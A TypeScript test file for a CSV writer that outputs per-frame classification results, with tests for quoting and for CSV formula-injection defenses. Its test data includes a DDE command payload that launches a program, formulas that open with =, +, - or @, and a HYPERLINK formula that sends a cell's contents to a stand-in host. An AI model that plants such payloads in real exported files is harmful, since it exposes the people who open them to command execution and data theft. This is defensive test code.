import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvWriter } from 'sluice';
import { NASTY, resultOf, textOf } from '../../support/results.ts';

/** Read by another's reader. */
const rowsOf = (text: string) => parse<Record<string, string>>(text, { columns: true, relax_quotes: false });

describe('csvWriter', () => {
  it('writes a row for each class of each frame, best first', () => {
    expect(textOf(csvWriter(), [resultOf(0, 'cat', 'dog'), resultOf(3, 'dog')])).toBe(
      'source,seq,timestamp,rank,index,label,score\r\n' +
        'clip.mp4,0,0,1,7,cat,0.5\r\nclip.mp4,0,0,2,8,dog,0.25\r\nclip.mp4,3,120000,1,7,dog,0.5\r\n',
    );
  });

  it('has a header without any result, and only one', () => {
    expect(textOf(csvWriter(), [])).toBe('source,seq,timestamp,rank,index,label,score\r\n');
    const writer = csvWriter().open();
    expect(writer.write(resultOf(0, 'cat'))).toMatch(/^source,/);
    expect(writer.write(resultOf(1, 'cat'))).toBe('clip.mp4,1,40000,1,7,cat,0.5\r\n');
    expect(writer.end()).toBe('');
  });

  it('loses no frame that has no class', () => {
    expect(
      rowsOf(textOf(csvWriter(), [resultOf(0), resultOf(1, 'cat')])).map(({ seq, label }) => [seq, label]),
    ).toEqual([
      ['0', ''],
      ['1', 'cat'],
    ]);
  });

  it.each(NASTY)('%j is read as it was written, as label and as source', (text) => {
    const rows = rowsOf(textOf(csvWriter(), [{ ...resultOf(0, text, 'cat'), source: text }]));
    expect(rows.map(({ source, label, rank }) => [source, label, rank])).toEqual([
      [text, text, '1'],
      [text, 'cat', '2'],
    ]);
  });

  it('says how many frames, and to when, of results of several', () => {
    const text = textOf(csvWriter({ aggregated: true }), [{ ...resultOf(0, 'cat'), end: 1_000_000, frames: 25 }]);
    expect(text.split('\r\n').slice(0, 2)).toEqual([
      'source,seq,timestamp,end,frames,rank,index,label,score',
      'clip.mp4,0,0,1000000,25,1,7,cat,0.5',
    ]);
  });

  it('writes whole microseconds beyond a day, and no score as anything but a number', () => {
    const long = { ...resultOf(0, 'a', 'b', 'c'), timestamp: 90_000_000_001 };
    const classes = [1e-9, NaN, Infinity].map((score, index) => ({ index, label: 'x', score }));
    const rows = rowsOf(textOf(csvWriter(), [{ ...long, classes }]));
    expect(rows.map(({ timestamp, score }) => [timestamp, score])).toEqual([
      ['90000000001', '0'],
      ['90000000001', ''],
      ['90000000001', ''],
    ]);
  });
});

/**
 * What LibreOffice makes of CSV (sc/source/ui/docshell/impex.cxx and asciiopt.cxx). Its import dialog begins with the separators comma,
 * semicolon and tab together and the quote `"`. A cell of two characters or more that begins with `=` is a formula, quoted or not, if
 * "Evaluate formulas" is on: always in versions before that option, when a program converts the file, and as the user says since. A
 * `'` at the beginning stays part of the text.
 */
function formulasInLibreOffice(csv: string, separators: string): string[] {
  const cells: string[] = [];
  let [cell, isQuoted, isStart] = ['', false, true];
  for (let i = 0; i < csv.length; i++) {
    const c = csv[i] ?? '';
    if (isQuoted && c === '"' && csv[i + 1] === '"') cell += csv[i++];
    else if (isStart && c === '"') [isQuoted, isStart] = [true, false];
    else if (isQuoted && c === '"') isQuoted = false;
    else if (!isQuoted && (separators.includes(c) || c === '\n' || c === '\r')) {
      cells.push(cell);
      [cell, isStart] = ['', true];
    } else {
      cell += c;
      isStart = false;
    }
  }
  return cells.filter((text) => text.length > 1 && text.startsWith('='));
}

/** Excel takes more signs than LibreOffice. */
const SIGNS = '=+-@＝＋－＠';

describe('csvWriter for spreadsheets', () => {
  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '＝1', '=cmd|" /C calc"!A0'])('%j is text, not a formula', (text) => {
    const written = textOf(csvWriter({ spreadsheet: true }), [{ ...resultOf(0, text), source: text }]);
    expect(written.startsWith('\uFEFFsource,')).toBe(true);
    const [row] = parse<Record<string, string>>(written, { columns: true, bom: true });
    expect([row?.source, row?.label]).toEqual([`'${text}`, `'${text}`]);
  });

  it.each([
    ['\t=1', "'\t'=1"],
    ['\r=1', "'\r'=1"],
    ['\n1', "'\n1"],
    ['x;=1+1', "x;'=1+1"],
    ['x\t@SUM(A1)', "x\t'@SUM(A1)"],
    ['x\n-1', "x\n'-1"],
    ['a, b', 'a, b'],
    ['x = 1', 'x = 1'],
  ])('%j is %j', (text, expected) => {
    const written = textOf(csvWriter({ spreadsheet: true }), [resultOf(0, text)]);
    expect(parse<Record<string, string>>(written, { columns: true, bom: true })[0]?.label).toBe(expected);
  });

  it.each([',;\t', ',', ';', '\t'])('has no formula for LibreOffice and Excel that cut at %j', (separators) => {
    for (const before of ['', 'x', 'x,', 'x;', 'x\t', 'x"', '",', '";', '\n', '\r\n', '"\n"']) {
      for (const sign of SIGNS) {
        const text = `${before}${sign}HYPERLINK("http://x/"&A1;"${sign}y")`;
        const results = [{ ...resultOf(0, text, text), source: text }];
        const written = textOf(csvWriter({ spreadsheet: true }), results).slice(1);
        // What is true of `=` in LibreOffice is true of all signs in Excel.
        const asEqual = written.replaceAll(new RegExp(`[${SIGNS.replace('-', '\\-')}]`, 'g'), '=');
        expect(formulasInLibreOffice(asEqual, separators)).toEqual([]);
        // The same text as it is, for programs, has one.
        if (before === '')
          expect(formulasInLibreOffice(textOf(csvWriter(), [resultOf(0, '=1+1')]), ',;\t')).toEqual(['=1+1']);
      }
    }
  });

  it('leaves other text and numbers alone', () => {
    const text = textOf(csvWriter({ spreadsheet: true }), [{ ...resultOf(0, 'a=b', "it's"), timestamp: -40_000 }]);
    expect(text).toContain('clip.mp4,0,-40000,1,7,a=b,0.5\r\n');
    expect(text).toContain(",it's,");
  });
});
